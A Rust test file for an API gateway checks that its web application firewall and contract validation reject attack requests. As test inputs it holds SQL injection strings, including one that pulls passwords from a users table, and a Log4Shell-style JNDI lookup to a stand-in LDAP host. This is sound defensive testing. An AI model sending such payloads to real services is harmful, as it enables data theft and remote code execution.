//! Rules that a contract spares its fields: what is promised counts for values that keep the promise, and for no others,
//! whether somebody held them to it before or not.

use crate::check::{good_request_works, problem};
use crate::contract;
use portcullis_config::plan::{ContractMode, WafPlan, WafRulesPlan};
use portcullis_testkit::gateway::{self, Gatehouse};
use portcullis_testkit::{Client, FakeUpstream};
use std::net::SocketAddr;

const SQL: &str = "1%27+union+select+pass+from+users--";

fn guarded(upstream: SocketAddr, request: ContractMode) -> Gatehouse {
    let mut plan = contract::plan(upstream, request, ContractMode::Off);
    let waf = WafPlan { enforces: true, rules: WafRulesPlan::builtin().unwrap() };
    gateway::each_route(&mut plan, |route| route.waf = Some(waf.clone()));
    let spared = plan.apis[0].versions[0].routes[1].spared();
    assert_eq!(spared.is_some(), request == ContractMode::Enforce, "only what is enforced proves anything");
    Gatehouse::start(plan)
}

fn get(target: &str, fields: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: api.test\r\n{fields}\r\n")
}

fn put(body: &str) -> String {
    let length = body.len();
    format!(
        "PUT /users/7 HTTP/1.1\r\nHost: api.test\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n{body}"
    )
}

#[test]
fn fields_that_are_proved_pass_and_others_are_looked_at() {
    let upstream = FakeUpstream::echoing();
    let gate = guarded(upstream.address(), ContractMode::Enforce);
    for request in [
        get("/users/7?full=true", "X-Tenant: select\r\n"),
        put(r#"{"name":"Ann","age":41}"#),
        put(r#"{"name":"Ann","age":4e1}"#),
    ] {
        let answer = Client::connect(gate.address()).ask(&request);
        assert_eq!(answer.status, 200, "{request}: {}", answer.text());
        let record = gate.records().of(answer.field("x-request-id").unwrap());
        assert!(record.get("waf").is_none_or(|waf| waf["verdict"] != "refused"), "{record}");
    }
    for (request, status, code) in [
        // What breaks its promise breaks the contract as well, and never comes as far as the rules.
        (get(&format!("/users/7?full={SQL}"), ""), 400, "invalid_request"),
        (get("/users/7", "X-Tenant: ${jndi:ldap://x/a}\r\n"), 400, "invalid_request"),
        (put(r#"{"name":"Ann","age":"1' union select 1--"}"#), 422, "invalid_body"),
        // Nothing is promised of these.
        (put(r#"{"name":"1' or '1'='1","age":41}"#), 403, "attack_refused"),
        (get("/users/7?full=true", "X-Tenant: a\r\nUser-Agent: ${jndi:ldap://x/a}\r\n"), 403, "attack_refused"),
    ] {
        let answer = Client::connect(gate.address()).ask(&request);
        problem(&answer, status, code, &request);
        good_request_works(&gate, &request);
    }
}

#[test]
fn what_is_only_reported_proves_nothing() {
    let upstream = FakeUpstream::echoing();
    let gate = guarded(upstream.address(), ContractMode::Report);
    for request in [
        get(&format!("/users/7?full={SQL}"), ""),
        get("/users/7", "X-Tenant: ${jndi:ldap://x/a}\r\n"),
        put(r#"{"name":"Ann","age":"1' union select pass from users--"}"#),
    ] {
        let answer = Client::connect(gate.address()).ask(&request);
        problem(&answer, 403, "attack_refused", &request);
        good_request_works(&gate, &request);
    }
    assert_eq!(Client::connect(gate.address()).ask(get("/users/7?full=yes", "")).status, 200);
}
